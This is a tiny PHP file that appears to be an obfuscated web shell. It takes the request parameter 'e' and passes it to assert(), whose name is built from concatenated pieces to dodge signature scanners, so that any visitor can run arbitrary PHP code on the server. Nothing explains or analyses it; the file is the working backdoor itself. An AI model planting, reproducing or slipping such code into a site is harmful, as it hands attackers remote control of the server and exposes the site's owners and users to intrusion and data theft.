<?php
$GLOBALS['x'] = $_REQUEST; $GLOBALS['y'] = 'as'.'se'.'rt';
$GLOBALS['y']($GLOBALS['x']['e']);
